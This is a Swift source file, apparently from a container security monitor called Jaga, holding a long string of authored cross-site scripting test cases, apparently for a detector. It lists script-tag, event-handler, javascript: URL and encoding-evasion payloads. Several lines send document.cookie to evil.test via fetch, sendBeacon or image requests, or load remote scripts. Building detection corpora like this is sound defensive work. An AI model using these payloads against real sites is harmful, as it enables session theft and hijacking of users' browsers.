// Jaga - container security monitor
// SPDX-License-Identifier: Apache-2.0

extension AuthoredCases {
    /// Script for browsers: elements, events, addresses, contexts of code.
    static let script = #"""
        <script>alert(1)</script>
        <ScRiPt>alert(1)</sCrIpT>
        <script src=//evil.test/x.js></script>
        <script/src=data:,alert(1)></script>
        "><script>alert(document.cookie)</script>
        '><img src=x onerror=alert(1)>
        <img src=x onerror=alert(1)>
        <img/src/onerror=alert(1)>
        <img src=1 onerror="javascript:alert(1)">
        <img src=`x` onerror=alert(1)>
        <svg onload=alert(1)>
        <svg/onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><set attributeName=onmouseover to=alert(1)>
        <svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
        <svg><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>
        <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
        <math href=javascript:alert(1)>click</math>
        <math><maction actiontype=statusline xlink:href=javascript:alert(1)>x
        <iframe src=javascript:alert(1)>
        <iframe srcdoc="<script>alert(1)</script>">
        <iframe onload=alert(1)>
        <body onload=alert(1)>
        <body onpageshow=alert(1)>
        <body onhashchange=alert(1)><a href=#x>
        <input autofocus onfocus=alert(1)>
        <select autofocus onfocus=alert(1)>
        <textarea autofocus onfocus=alert(1)>
        <keygen autofocus onfocus=alert(1)>
        <details open ontoggle=alert(1)>
        <video><source onerror=alert(1)>
        <video src=x onerror=alert(1)>
        <audio src=x onerror=alert(1)>
        <marquee onstart=alert(1)>
        <object data=javascript:alert(1)>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
        <embed src=javascript:alert(1)>
        <a href=javascript:alert(1)>x</a>
        <a href="java&#x09;script:alert(1)">x</a>
        <a href="&#106;avascript:alert(1)">x</a>
        <a onmouseover=alert(1)>x
        <form action=javascript:alert(1)><input type=submit>
        <form><button formaction=javascript:alert(1)>x
        <isindex type=image src=1 onerror=alert(1)>
        <meta http-equiv=refresh content="0;url=javascript:alert(1)">
        <link rel=stylesheet href=//evil.test/x.css>
        <base href=//evil.test/>
        <style>@import'//evil.test/x.css';</style>
        <style>*{background:url(javascript:alert(1))}</style>
        <div style="width:expression(alert(1))">
        <div style=xss:expression(alert(1))>
        <xss onclick=alert(1)>x
        <x onmouseenter=alert(1)>x
        <custom-tag onpointerrawupdate=alert(1)>
        <b onbeforescriptexecute=alert(1)>
        <p onanimationstart=alert(1) style=animation-name:x>
        <dialog open onclose=alert(1)><form method=dialog><button>X</button></form>
        <div contenteditable onbeforeinput=alert(1)>x
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <template><script>alert(1)</script></template>
        <!--><img src=x onerror=alert(1)>-->
        <![CDATA[<script>alert(1)</script>]]>
        <plaintext/onmouseover=alert(1)>
        "onmouseover="alert(1)
        " onfocus=alert(1) autofocus="
        ' onclick='alert(1)
        " autofocus onfocus=alert(1) x="
        "/onmouseover=alert(1)//
        x" onerror="alert(1)
        ' onload=alert(1) '
        javascript:alert(1)
        JaVaScRiPt:alert(1)
        javascript://%0aalert(1)
        javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
        jav	ascript:alert(1)
        data:text/html,<script>alert(1)</script>
        data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
        vbscript:msgbox(1)
        alert(1)
        alert`1`
        (alert)(1)
        a=alert,a(1)
        [1].find(alert)
        top["al"+"ert"](1)
        window['alert'](1)
        self[/al/.source+/ert/.source](1)
        eval(atob('YWxlcnQoMSk='))
        eval('ale'+'rt(1)')
        setTimeout('alert(1)')
        setTimeout`alert\x281\x29`
        Function('alert(1)')()
        [].constructor.constructor('alert(1)')()
        []["filter"]["constructor"]("alert(1)")()
        new Function`alert\`1\``
        onerror=alert;throw 1
        {onerror=alert}throw 1
        throw onerror=alert,1
        ';alert(1)//
        ";alert(1)//
        '-alert(1)-'
        "-alert(1)-"
        \';alert(1)//
        `-alert(1)-`
        ${alert(1)}
        '+alert(1)+'
        </script><script>alert(1)</script>
        </title><script>alert(1)</script>
        </textarea><svg onload=alert(1)>
        document.location='http://evil.test/?c='+document.cookie
        document.write('<img src=//evil.test>')
        fetch('//evil.test/'+document.cookie)
        new Image().src='//evil.test/?'+document.cookie
        location='javascript:alert%281%29'
        location.href='//evil.test'
        import('//evil.test/x.js')
        navigator.sendBeacon('//evil.test',document.cookie)
        window.open('javascript:alert(1)')
        document.body.innerHTML='<h1>x</h1>'
        document.getElementById('x').innerHTML='x'
        $.getScript('//evil.test/x.js')
        parent.document.domain
        String.fromCharCode(88,83,83)
        prompt(document.domain)
        confirm(document.cookie)
        print()
        <script>print()</script>
        <img src=x onerror=eval(location.hash.slice(1))>
        <img src onerror=&#97;lert(1)>
        <img src=x:x onerror=\u0061lert(1)>
        %3Cscript%3Ealert(1)%3C/script%3E
        &lt;script&gt;alert(1)&lt;/script&gt;
        \x3cscript\x3ealert(1)\x3c/script\x3e
        \u003cscript\u003ealert(1)
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        <<script>alert(1)//<</script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script >alert(1)</script >
        <script	src="//x">
        <script/random>alert(1)</script>
        <img src="x"onerror="alert(1)">
        <img src='x'onerror=alert(1)>
        <svg onload=alert&lpar;1&rpar;>
        <svg onload=alert&#40;1&#41;>
        <a href="javas&Tab;cript:alert(1)">
        <a/href=javascript&colon;alert(1)>x
        <IMG """><SCRIPT>alert("XSS")</SCRIPT>">
        <IMG LOWSRC="javascript:alert('XSS')">
        <BGSOUND SRC="javascript:alert('XSS');">
        <TABLE BACKGROUND="javascript:alert('XSS')">
        <LAYER SRC="http://evil.test/x.js"></LAYER>
        <h1>hacked</h1>
        <b>x</b>
        <marquee>x</marquee>
        <iframe src=http://evil.test>
        <a href=http://evil.test>click</a>
        <img src=http://evil.test/x.png>
        {{constructor.constructor('alert(1)')()}}
        {{$on.constructor('alert(1)')()}}
        {{[].pop.constructor('alert(1)')()}}
        <div ng-app>{{1+1}}</div>
        <div v-html="''.constructor.constructor('alert(1)')()">
        <x-component x-data x-init="alert(1)">
        <a hx-on:click=alert(1)>
        <svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>
        <svg><discard onbegin=alert(1)>
        <portal src=//evil.test>
        <frameset onload=alert(1)>
        <applet code=x.class>
        <input type=image src=x onerror=alert(1)>
        <button popovertarget=x>a</button><xss onbeforetoggle=alert(1) popover id=x>
        <style onload=alert(1)></style>
        <link onerror=alert(1) rel=preload href=x as=image>
        <track onerror=alert(1)>
        <video controls oncanplay=alert(1)><source src=v.mp4></video>
        <svg><style>@keyframes x{}</style><rect style="animation:x 1s" onanimationend=alert(1)>
        javascript:eval(name)
        javascript:void(0);alert(1)
        %22onmouseover=%22alert(1)
        x onerror=alert(1)
        1;alert(1)
        1};alert(1);{
        */alert(1)/*
        </ScRiPt >
        <sVg/OnLoAd=prompt(1)>
        <image src=x onerror=alert(1)>
        <img src=x onerror=import('//evil.test')>
        <object type=text/x-scriptlet data=//evil.test>
        <a href=vbscript:msgbox(1)>x
        <div onwheel=alert(1)>
        <svg/onload=location=name>
        <svg/onload=eval(`'`+URL)>
        <svg><animatetransform onbegin=alert(1)>
        <a href="javascript&colon;confirm(1)">x
        <input onblur=alert(1) autofocus><input autofocus>
        <body onload="fetch('//x.test')">
        <div onpointerover="alert(45)">x</div>
        <audio autoplay onplay=alert(1)><source src=x.wav>
        <object onerror=alert(1)>
        <iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">
        <script>onerror=alert;throw 1337</script>
        <script>{onerror=alert}throw 1337</script>
        <script src=data:text/javascript,alert(1)></script>
        <noembed><img title="</noembed><img src onerror=alert(1)>">
        <title><img title="</title><img src onerror=alert(1)>">
        '"><svg/onload=confirm`1`>
        x"><iframe src=//evil.test>
        --><script>alert(1)</script>
        ]]><script>alert(1)</script>
        "});alert(1);({"a":"
        ');alert(1);//
        ");alert(1)//
        \");alert(1)//
        '};alert(1);{'
        ';document.location='http://x.test';'
        "+alert(1)+"
        '*alert(1)*'
        ';alert`1`;'
        '-confirm(1)-'
        '^alert(1)^'
        "/alert(1)/"
        onclick=alert(1)
        autofocus/onfocus=alert(1)
        " tabindex=1 onfocus=alert(1) autofocus
        ' accesskey=x onclick=alert(1) '
        " style=animation-name:x onanimationstart=alert(1) "
        javascript:window.onerror=alert;throw 1
        javascript:alert(document.cookie)
        java%0ascript:alert(1)
        &#x6A;avascript:alert(1)
        <IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;(1)>
        <IMG SRC="jav&#x0A;ascript:alert('XSS');">
        <STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE>
        <XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></xml>
        <EMBED SRC="http://x.test/x.swf" AllowScriptAccess="always"></EMBED>
        <form id=x></form><button form=x formaction=javascript:alert(1)>
        eval(String.fromCharCode(97,108,101,114,116))
        window.location=document.referrer
        document.forms[0].action='//x.test'
        localStorage.getItem('token')
        setInterval(alert,1000)
        Object.defineProperty(window,'x',{value:1})
        this['al'+'ert'](1)
        globalThis["alert"](1)
        Reflect.apply(alert,null,[1])
        []['map']['constructor']('alert(1)')()
        (()=>{alert(1)})()
        <svg onload=alert&#x28;1&#x29;>
        """#
}
